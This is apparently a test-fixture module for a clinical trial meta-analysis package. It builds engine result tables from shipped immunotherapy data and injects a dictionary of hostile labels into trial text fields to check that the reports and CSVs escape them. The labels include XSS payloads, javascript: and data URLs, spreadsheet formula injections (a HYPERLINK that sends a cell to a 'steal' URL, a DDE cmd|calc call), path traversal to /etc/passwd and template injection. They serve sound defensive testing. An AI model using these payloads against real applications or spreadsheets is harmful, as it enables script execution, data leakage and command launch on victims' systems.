"""Result tables for the figure/report tests: the real engine (effect sizes + pooling) on the
shipped data, with the shipped configuration's settings; hostile labels for the security tests.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd

ROOT = Path(__file__).resolve().parents[2]
TRIALS_CSV = ROOT / "data" / "trials" / "immunotherapy_trials.csv"
GROUP_BY = ["therapy_class", "comparator", "condition", "outcome", "outcome_type"]

CONFIG = {
    "trials": ["data/trials/immunotherapy_trials.csv"],
    "results": "results",
    "group_by": GROUP_BY,
    "measures": {"binary": ["RR", "OR", "RD"], "continuous": ["MD", "SMD"]},
    "tau2_methods": ["REML", "DL", "PM", "ML", "EB", "SJ", "HE", "HS"],
    "ci_methods": ["hksj", "wald"],
    "prediction_interval": "metafor",
    "continuity": {"add": 0.5, "to": "only0", "drop00": False},
    "min_studies": 1,
    "level": 0.95,
    "models": ["random", "fixed", "mh", "peto"],
    "figures": {"formats": ["svg", "png"]},
}


def load_shipped_trials(path=TRIALS_CSV, group_by=GROUP_BY):
    from trialmeta.inputs.ingest import load_trials
    from trialmeta.inputs.validate import validate_trials

    df = load_trials([str(path)])
    df, warnings = validate_trials(df, group_by)
    if "analysis_id" not in df.columns:
        from trialmeta.inputs.analyses import assign_analysis_ids

        df = assign_analysis_ids(df, group_by)
    return df, warnings


def engine_tables(trials: pd.DataFrame, config=CONFIG):
    """(pooled, studies, "engine"): the real engine's result tables for ``trials``."""
    from trialmeta.tables.effects import compute_effect_sizes
    from trialmeta.tables.pooled import pool_analyses

    effects = compute_effect_sizes(
        trials, measures=config["measures"], continuity=config["continuity"]
    )
    pooled, studies = pool_analyses(
        effects,
        config["group_by"],
        tau2_methods=config["tau2_methods"],
        ci_methods=config["ci_methods"],
        prediction_interval=config["prediction_interval"],
        level=config.get("level", 0.95),
        models=config["models"],
    )
    return pooled, studies, "engine"


# ----------------------------------------------------------------------------- hostile labels
#: Text that must never run or be interpreted anywhere in the report, the figures or the CSVs.
HOSTILE = {
    "script": "<script>alert('xss-script')</script>",
    "img": "<img src=x onerror=\"alert('xss-img')\">",
    "svg": "<svg/onload=alert('xss-svg')>",
    "attr": '" onmouseover="alert(\'xss-attr\')" x="',
    "js_url": "javascript:alert('xss-url')",
    "data_url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "markdown": "**bold** [click](javascript:alert('xss-md')) ![i](http://example.invalid/x.png)",
    "formula": '=HYPERLINK("http://example.invalid/steal?x="&A1,"click me")',
    "cmd": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "path": "../../etc/passwd/..\\..\\windows",
    "rtl": "\u202eevil\u202c \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 zero\u200bwidth\u200d\ufeff",
    "long": "L" * 5000,
    "math": "$\\frac{1}{0}$ $$ \\invalid{",
    "template": "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
}


def hostile_trials(trials: pd.DataFrame) -> pd.DataFrame:
    """The shipped trials with hostile text in every free-text column of two analyses
    (analysis ids stay the ingest slugs: they are file names and are checked separately)."""
    t = trials.copy()
    ids = sorted(t["analysis_id"].unique())
    pick = t["analysis_id"].isin([ids[0], ids[-1]])
    keys = list(HOSTILE)
    rows = list(t.index[pick])
    for j, idx in enumerate(rows):
        t.loc[idx, "study_id"] = f"{HOSTILE[keys[j % len(keys)]]} #{j}"
        t.loc[idx, "notes"] = " | ".join(HOSTILE.values())
    t.loc[pick, "therapy"] = HOSTILE["script"] + HOSTILE["img"] + HOSTILE["rtl"]
    t.loc[pick, "comparator"] = HOSTILE["formula"] + HOSTILE["attr"]
    t.loc[pick, "condition"] = HOSTILE["markdown"] + HOSTILE["template"]
    t.loc[pick, "outcome"] = HOSTILE["svg"] + HOSTILE["long"]
    urls = [
        HOSTILE["js_url"],
        HOSTILE["data_url"],
        "https://ok.example.org/trial",
        " javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "https://ok.example.org/a?b=1&c=<2>",
        "//evil.example/x",
        "file:///etc/passwd",
    ]
    for j, idx in enumerate(rows):
        t.loc[idx, "source_url"] = urls[j % len(urls)]
    return t


#: The report-exploration configuration: two subgroup moderators and two meta-regression ones.
EXPL_CONFIG = dict(
    CONFIG,
    subgroups=["biomarker_selected", "alloc"],
    metaregression=["year", "ablat"],
    subgroup_common_tau2=False,
    metaregression_test="z",
    small_study_min_k=10,
)
